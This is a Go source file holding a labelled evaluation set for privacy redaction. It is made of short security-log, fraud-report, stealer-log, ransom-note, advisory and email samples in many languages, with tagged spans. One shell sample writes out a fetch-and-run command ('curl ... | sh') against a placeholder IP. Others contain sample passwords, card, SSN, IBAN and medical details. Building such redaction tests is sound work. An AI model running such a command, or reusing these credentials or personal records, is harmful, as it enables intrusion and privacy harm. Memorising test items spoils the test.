package privacy

// unseenLast is the third set, written after the second had been worked through.
const unseenLast = `
=== siem en
rule="Impossible travel" account="⟦r:tkowalczyk@retailer.example⟧" first_ip=10.1.1.1 second_ip=⟦k:203.0.113.30⟧
=== duo en
{"user":{"name":"⟦r:obrandt⟧","groups":["VPN"]},"access_device":{"ip":"⟦k:203.0.113.31⟧"},"result":"denied","reason":"user_marked_fraud"}
=== sshd en
Disconnected from authenticating user ⟦r:jvelazquez⟧ ⟦k:203.0.113.32⟧ port 50022 [preauth]
=== sshd en
Connection closed by invalid user ⟦k:hadoop⟧ ⟦k:203.0.113.33⟧ port 41022 [preauth]
=== windows en
4720 A user account was created. New Account: ⟦k:support$adm⟧ created by intruder; Subject: ⟦r:bwhitlock⟧
=== windows en
4688 Creator Process Name: C:\Users\⟦r:Gwendolyn.Price⟧\AppData\Local\Temp\⟦k:upd8.exe⟧
=== linux en
uid=1004(⟦r:mhassan⟧) gid=1004(⟦r:mhassan⟧) groups=27(sudo)
=== shell en
⟦r:rpetrova⟧@build7:~$ curl ⟦k:http://203.0.113.34/x.sh⟧ | sh
=== passwd en
⟦r:lfontaine⟧:x:1002:1002:⟦r:Lucile Fontaine⟧,,,:/home/⟦r:lfontaine⟧:/bin/bash
=== imap en
imap-login: Login: user=<⟦r:c.duarte@vila.example⟧>, method=PLAIN, rip=⟦k:203.0.113.35⟧
=== waf en
Blocked: arg email=⟦r:nina.holm@kommun.example⟧ matched SQLi from ⟦k:203.0.113.36⟧
=== s3 en
79a5 bucket1 [06/Feb/2026:00:00:38 +0000] ⟦k:203.0.113.37⟧ arn:aws:iam::123456789012:user/⟦r:yolanda.cruz⟧ REST.GET.OBJECT
=== snmp en
sysContact: ⟦r:Barry Quigley⟧ <⟦r:bquigley@water.example⟧>
=== print en
Job 4412 owner ⟦r:sdelacroix⟧ document "⟦x:Payslip Delacroix⟧" printer HP4
=== badge en
09:01:12 DOOR 4 badge ⟦r:77120⟧ ⟦r:IMELDA FROST⟧ granted
=== pos en
Receipt card ⟦r:6011 1111 1111 1232⟧ exp 09/28 name ⟦r:T J WEATHERSBY⟧
=== medical en
Referral: ⟦r:Mrs Oonagh Byrne⟧, NHS ⟦r:485 777 3457⟧, dx ⟦r:type 2 diabetes⟧, GP ⟦r:Dr Patel⟧
=== lab en
ORC|RE|441||;PID|1||⟦r:600123⟧||⟦r:OKEKE^ADANNA⟧||⟦r:19910502⟧
=== crm en
Contact Name: ⟦r:Dorothea Klamm⟧; Company: Klamm Logistik GmbH; Mobile: ⟦r:+49 171 5550142⟧
=== survey en
Respondent ⟦r:Jens⟧ (⟦r:45⟧): I lost 300 EUR to ⟦k:kryptoguru.example⟧
=== stealer en
HWID: 9A2F-11; UserName: ⟦r:Ludmila⟧; Keyboard: cs-CZ; Country: CZ; Ver: ⟦k:Vidar 3.2⟧
=== stealer en
Browser: Edge | URL: https://portal.example | Login: ⟦r:agnes.toth@posta.example⟧ | Password: ⟦r:Cica-2010⟧
=== paste en
⟦r:+1 (415) 555-0177⟧ ⟦r:Kendra Mott⟧ ⟦r:SSN 219-09-9999⟧ dumped by ⟦k:@l33tleaks⟧
=== ransom en
Dear ⟦r:Mr. Falkenrath⟧! We are ⟦k:Night Lynx⟧. Write to ⟦k:lynx.help@proton-x.example⟧ or pay to ⟦k:bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4⟧
=== takedown en
Please suspend ⟦k:login-postbank.example⟧ (registrant: ⟦k:Jack Sparrow⟧, ⟦k:jsparrow@pirate-mail.example⟧). Contact: ⟦r:Ingrid Aasen⟧, NorCERT
=== advisory en
Actors used the VPN account of a contractor, ⟦r:Leandro Pozzi⟧, who had reused ⟦r:Juve1897!⟧ as password.
=== advisory en
⟦k:Mango Sandstorm⟧ and ⟦k:Peach Sandstorm⟧ scan Fortinet and Citrix; see MITRE ATT&CK ⟦k:T1190⟧.
=== advisory en
The fake recruiter "⟦k:Ruth Calderon⟧" on LinkedIn sent ⟦k:Salary_Ruth.lnk⟧ to engineers.
=== advisory en
Payload names: ⟦k:lisa.dll⟧, ⟦k:bob.exe⟧, ⟦k:Erik_CV.scr⟧; export ⟦k:RunAlice⟧; service "⟦k:Grace Updater⟧".
=== advisory en
The Hague, San Diego, Saint Helena and Victoria Falls host exit nodes.
=== advisory en
Wireshark, Nmap, Burp Suite, Hashcat and Maltego are not malicious by themselves.
=== press en
The banker ⟦h:Viktor Salz⟧ was sentenced for laundering; the court of Graz heard the victim ⟦r:Resi Hofer⟧.
=== press en
Mayor's hacked X account ⟦h:@mayor_hill⟧ posted ⟦k:hill-giveaway.example⟧.
=== thanks en
Finding credited to ⟦h:Olumide Bakare⟧ of Lagos Sec; CVSS 8.1
=== police en
W/O ⟦r:Ms Tamar Levi⟧, flat ⟦r:7, 12 Herzl St, Haifa⟧, states that "⟦k:Investigator Stone⟧" phoned.
=== police en
Complainant's mobile ⟦r:07700 900 441⟧; number used by fraudsters ⟦k:07700 900 442⟧.
=== bank en
Beneficiary (money mule): ⟦k:Dylan Cash⟧, ⟦k:IE29AIBK93115212345678⟧; remitter: ⟦r:Ethel Crabtree⟧.
=== bank en
Standing order from ⟦r:CH9300762011623852957⟧ of ⟦r:Herr Urs Zgraggen⟧ was altered to the fraudsters' account ⟦k:BE68539007547034⟧.
=== mail en
From: ⟦k:Netflix <billing@netfIix-pay.example>⟧
To: ⟦r:undisclosed.jorge@telefon.example⟧
=== mail en
Hey ⟦r:Soren⟧, did ⟦r:Mathilde⟧ really get a voice mail from "⟦k:the CEO⟧" on ⟦k:+1 929 555 0144⟧? /⟦r:Ulla⟧
=== chat en
[14:22] ⟦r:Priya (IT)⟧: block ⟦k:meet-zoom.example⟧ pls
=== chat en
⟦r:leo_k⟧: my grandma got a call from ⟦k:+1 800 555 0155⟧
=== hash en
⟦k:9e107d9d372bb6826bd81d3542a419d6⟧  ⟦k:invoice_peter.js⟧
=== url en
⟦k:https://survey-prize.example/r?uid=4411&fn=⟧⟦r:Yasmine⟧⟦x:&ln=⟧⟦r:Belkacem⟧&x=1
=== md en
| Field | Value |
| Reporter | ⟦r:Hjalmar Lie⟧ |
| Sender | ⟦k:it@sikker-konto.example⟧ |
=== csv en
Employee ID,Full Name,Work Email
⟦r:100441⟧,⟦r:Zanele Mokoena⟧,⟦r:z.mokoena@mine.example⟧
=== mail de
Lieber Herr ⟦r:Prof. Achterkamp⟧, die Mail kam von ⟦k:dekanat@uni-info.example⟧. Gruß ⟦r:Inken⟧
=== police de
Zeugin: ⟦r:Rosalinde Wiegand⟧, erreichbar unter ⟦r:0151 55501234⟧. Täter-Rufnummer: ⟦k:+49 30 55501999⟧.
=== ticket fr
Demandeur : ⟦r:Anaëlle Guivarch⟧ – lien reçu de ⟦k:cpf@mon-compte-formation.example⟧, mot de passe : ⟦r:Quimper29!⟧
=== police es
La perjudicada, ⟦r:Dña. Encarna Molina⟧, recibió un SMS del ⟦k:+34 611 555 019⟧ y facilitó la clave ⟦r:7719⟧.
=== mail it
Cordiali saluti
⟦r:Ermenegildo Fava⟧
Ufficio acquisti – tel. ⟦r:02 5550 1234⟧
=== log nl
Mislukte aanmelding voor gebruiker ⟦r:pdejong⟧ vanaf ⟦k:203.0.113.38⟧
=== police pt
O burlão "⟦k:Dr. Paulo Neves⟧" contactou ⟦r:Dona Lurdes Pacheco⟧ pelo ⟦k:+351 910 555 012⟧.
=== mail pl
Szanowna Pani ⟦r:Bogumiło⟧, faktura od ⟦k:biuro@faktury-pl.example⟧
=== ticket sv
Anmälare: ⟦r:Ann-Louise Frisk⟧, anknytning ⟦r:3312⟧, klickade på ⟦k:https://skatt-retur.example⟧
=== mail ru
Уважаемая ⟦r:Тамара Львовна⟧, ваш пароль ⟦r:Vesna2021⟧ найден у ⟦k:@baza_shop⟧
=== ticket ja
報告者：⟦r:小林誠⟧　メール：⟦r:m.kobayashi@kogyo.example⟧　差出人：⟦k:rakuten@card-jp.example⟧
=== ticket zh
我叫⟦r:孙晓梅⟧，工号⟦r:A20931⟧，骗子微信号⟦k:wx_touzi88⟧
=== mail ar
عزيزتي ⟦r:هدى⟧، الرابط ⟦k:https://aramex-pay.example⟧
=== mail tr
Saygılarımla,
⟦r:Tuğba Erkin⟧
=== stix en
{"type":"identity","id":"identity--00000000-0000-4000-8000-000000000b01","name":"⟦r:Wolfgang Ammer⟧","identity_class":"individual","x_phone":"⟦r:+43 1 5550 7788⟧"}
=== stix en
{"type":"report","id":"report--00000000-0000-4000-8000-000000000b02","name":"Invoice fraud at Ammer Bau","description":"⟦r:Frau Ammer⟧ paid ⟦k:DK5000400440116243⟧ after a mail from ⟦k:rechnung@ammer-bau-gmbh.example⟧","object_refs":["url--00000000-0000-4000-8000-000000000b03"]}
=== stix en
{"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000b04","objects":[{"type":"email-addr","id":"email-addr--00000000-0000-4000-8000-000000000b05","value":"⟦r:ivy.okon@gmail.com⟧"},{"type":"email-message","id":"email-message--00000000-0000-4000-8000-000000000b06","is_multipart":false,"subject":"Hi ⟦r:Ivy⟧","to_refs":["email-addr--00000000-0000-4000-8000-000000000b05"]},{"type":"software","id":"software--00000000-0000-4000-8000-000000000b07","name":"⟦k:Ivy Bridge Tools⟧","vendor":"Ada Systems"}]}
`
